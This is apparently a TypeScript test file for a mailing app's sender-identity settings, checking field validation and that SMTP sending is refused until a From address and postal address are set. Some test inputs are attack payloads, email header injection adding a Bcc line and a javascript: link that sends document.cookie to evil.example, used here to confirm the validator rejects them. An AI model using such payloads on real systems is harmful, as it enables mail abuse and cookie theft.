// @vitest-environment node
/**
 * The sender identity on the server: kept in its database (`../store/sender.test.ts`), edited
 * through /api/sender with every field checked; the server refuses to send through a real SMTP server
 * (on 127.0.0.1) until the From and the postal address are set, then sends as that sender; the
 * local sink sends without them.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { EMPTY_SENDER } from '$lib/mail/sender';
import { call, freshServerEnv } from '../../../../tests/support/api';
import { startSmtp, type TestSmtp } from '../../../../tests/support/smtp';
import { lowAdoptionExample } from '../../../../tests/support/workspace';
import { senderFromFile } from './sender';

const AS_OF = '2026-03-01';
const IDENTITY = {
	from_name: 'Acme "Customer" Success',
	from_address: 'cs@acme-vendor.example',
	reply_to: 'team@acme-vendor.example',
	postal_address: 'Acme Vendor Inc. · 1 Main Street · Springfield',
	public_url: 'https://cs.acme-vendor.example/',
	training_url: 'https://acme-vendor.example/training',
	community_url: 'https://community.acme-vendor.example',
	help_url: 'https://help.acme-vendor.example'
};

const routes = async () => ({
	sender: await import('../../../routes/api/sender/+server'),
	send: (await import('../../../routes/api/mail/send/+server')).POST,
	test: (await import('../../../routes/api/mail/test/+server')).POST,
	runs: (await import('../../../routes/api/runs/+server')).POST,
	workspace: await import('../../../routes/api/workspace/+server'),
	mailbox: (await import('../../../routes/api/mailbox/+server')).GET
});

const request = {
	key: 'scale-training:acme:0:ana@acme.example:683',
	play_id: 'scale-training',
	account_id: 'acme',
	action_index: 0,
	recipient: 'ana@acme.example',
	contact_id: 'c1'
};

/** Publishes the example workspace with the shipped templates (their footer shows the sender). */
async function publish(api: Awaited<ReturnType<typeof routes>>): Promise<string> {
	const published = await call(api.workspace.PUT, '/api/workspace', {
		method: 'PUT',
		body: JSON.stringify({ ...lowAdoptionExample(), templates: [] })
	});
	expect(published.status).toBe(200);
	return (await published.json()).published.version;
}

const sendBody = (version: string) => JSON.stringify({ as_of: AS_OF, version, entries: [request] });

afterEach(async () => {
	(await import('./service')).resetMailService();
});

describe('senderFromFile', () => {
	it('reads the identity an older data folder kept, distrusting a hand edit', () => {
		const file = join(freshServerEnv(), 'sender.json');
		expect(senderFromFile(file)).toEqual(EMPTY_SENDER);
		writeFileSync(file, '{ not json');
		expect(senderFromFile(file)).toEqual(EMPTY_SENDER);
		// Someone edits the file by hand: the fields that do not pass count as not set.
		writeFileSync(
			file,
			JSON.stringify({
				...IDENTITY,
				from_address: 'cs@x.example\r\nBcc: y@z.example',
				help_url: 'data:x'
			})
		);
		expect(senderFromFile(file)).toMatchObject({
			from_address: '',
			help_url: '',
			postal_address: IDENTITY.postal_address,
			public_url: 'https://cs.acme-vendor.example'
		});
	});
});

describe('/api/sender', { timeout: 30_000 }, () => {
	it('shows the identity with its defaults, and saves only a valid one', async () => {
		freshServerEnv({ MAIL_FROM: 'Env Team <env@acme-vendor.example>' });
		const api = await routes();
		const first = await (await call(api.sender.GET, '/api/sender')).json();
		expect(first).toMatchObject({
			identity: EMPTY_SENDER,
			mail_from: 'Env Team <env@acme-vendor.example>',
			public_url: null,
			transport: 'sink',
			refusal: null,
			operator: 'env@acme-vendor.example',
			effective: {
				from: '"Env Team" <env@acme-vendor.example>',
				public_url: 'http://app.local',
				missing: ['postal_address', 'training_url', 'community_url', 'help_url']
			}
		});

		const injected = await call(api.sender.PUT, '/api/sender', {
			method: 'PUT',
			body: JSON.stringify({
				...IDENTITY,
				from_address: 'cs@acme-vendor.example\r\nBcc: victim@elsewhere.example',
				community_url: 'javascript:fetch("//evil.example?"+document.cookie)'
			})
		});
		expect(injected.status).toBe(422);
		expect((await injected.json()).errors).toEqual([
			expect.objectContaining({ field: 'from_address', code: 'control' }),
			expect.objectContaining({ field: 'community_url', code: 'link', scheme: 'javascript' })
		]);
		const { mailServer } = await import('./server');
		expect(await (await mailServer()).store.sender.current()).toEqual(EMPTY_SENDER);

		const saved = await call(api.sender.PUT, '/api/sender', {
			method: 'PUT',
			body: JSON.stringify(IDENTITY)
		});
		expect(saved.status).toBe(200);
		expect(await saved.json()).toMatchObject({
			identity: { ...IDENTITY, public_url: 'https://cs.acme-vendor.example' },
			operator: 'cs@acme-vendor.example',
			effective: { from: '"Acme \\"Customer\\" Success" <cs@acme-vendor.example>', missing: [] }
		});
	});
});

describe('sending through SMTP', { timeout: 30_000 }, () => {
	let smtp: TestSmtp;
	beforeAll(async () => {
		smtp = await startSmtp();
	});
	afterAll(() => smtp.close());

	it('is refused until the From and the postal address are set, saying what to set', async () => {
		freshServerEnv({ SMTP_URL: smtp.url });
		const api = await routes();
		const version = await publish(api);
		const refused = await call(api.send, '/api/mail/send', { body: sendBody(version) });
		expect(refused.status).toBe(412);
		const answer = await refused.json();
		expect(answer).toMatchObject({
			code: 'sender_incomplete',
			missing: expect.arrayContaining(['from', 'postal_address'])
		});
		expect(answer.error).toBe(
			'the sender identity is incomplete: set the From address (Settings → Sender, or MAIL_FROM) and the postal address for the footer (Settings → Sender) before sending through SMTP. The local Mailbox (without SMTP_URL) works without them.'
		);
		const { contextFor } = await import('$lib/mail/testing');
		const { SHIPPED_TEMPLATES } = await import('$lib/mail/shipped');
		const test = await call(api.test, '/api/mail/test', {
			body: JSON.stringify({
				template: SHIPPED_TEMPLATES[0],
				context: contextFor(lowAdoptionExample(), 'acme', 'c1', AS_OF)
			})
		});
		expect(test.status).toBe(412);
		const run = await call(api.runs, '/api/runs', { body: '{}' });
		expect(run.status).toBe(409);
		expect((await run.json()).error).toMatch(/^the sender identity is incomplete/);
		const status = await (await call(api.workspace.GET, '/api/workspace')).json();
		expect(status.refusal).toMatch(/postal address/);

		// MAIL_FROM sets the From: only the postal address is then missing.
		(await import('./service')).resetMailService();
		freshServerEnv({ SMTP_URL: smtp.url, MAIL_FROM: 'CS <cs@acme-vendor.example>' });
		const again = await call(api.send, '/api/mail/send', { body: sendBody(await publish(api)) });
		expect(again.status).toBe(412);
		expect((await again.json()).error).toMatch(
			/^the sender identity is incomplete: set the postal address for the footer \(Settings → Sender\) before/
		);
		expect(smtp.offered).toBe(0);
	});

	it('sends as the identity: From, Reply-To, the footer’s name and postal address, its links', async () => {
		freshServerEnv({ SMTP_URL: smtp.url, MAIL_FROM: 'Env <env@acme-vendor.example>' });
		const api = await routes();
		const saved = await call(api.sender.PUT, '/api/sender', {
			method: 'PUT',
			body: JSON.stringify({ ...IDENTITY, from_name: 'Acme Customer Success' })
		});
		expect(saved.status).toBe(200);
		const version = await publish(api);
		const sent = await call(api.send, '/api/mail/send', { body: sendBody(version) });
		expect(sent.status).toBe(200);
		expect((await sent.json()).results).toEqual([expect.objectContaining({ status: 'sent' })]);

		const { parsed, to } = smtp.received.at(-1)!;
		expect(to).toEqual(['ana@acme.example']);
		expect(parsed.from?.value).toEqual([
			{ name: 'Acme Customer Success', address: 'cs@acme-vendor.example' }
		]);
		expect(parsed.replyTo?.value).toEqual([{ name: '', address: 'team@acme-vendor.example' }]);
		expect(parsed.text).toContain(
			'Acme Customer Success · Acme Vendor Inc. · 1 Main Street · Springfield'
		);
		expect(parsed.html).toContain('href="https://acme-vendor.example/training"');
		const unsubscribe = parsed.headerLines.find((h) => h.key === 'list-unsubscribe')!.line;
		expect(unsubscribe).toMatch(/<https:\/\/cs\.acme-vendor\.example\/unsubscribe\/[\w.-]+>/);
	});
});

describe('the local sink', { timeout: 30_000 }, () => {
	it('keeps working without a sender identity, for trying things out', async () => {
		freshServerEnv();
		const api = await routes();
		const version = await publish(api);
		const sent = await call(api.send, '/api/mail/send', { body: sendBody(version) });
		expect(sent.status).toBe(200);
		expect((await sent.json()).results).toEqual([expect.objectContaining({ status: 'sent' })]);
		const box = await (await call(api.mailbox, '/api/mailbox')).json();
		expect(box).toMatchObject({ transport: 'sink', public_url: 'http://app.local', count: 1 });
		const { mailServer } = await import('./server');
		const stored = (await (await mailServer()).store.mailbox.get(box.messages[0].id))!;
		expect(stored.from).toBe('"The Customer Success team" <scorecraft@localhost>');
		expect(stored.public_url).toBe('http://app.local');
		expect(stored.text).toContain('[postal address not set: Settings → Sender]');
	});
});
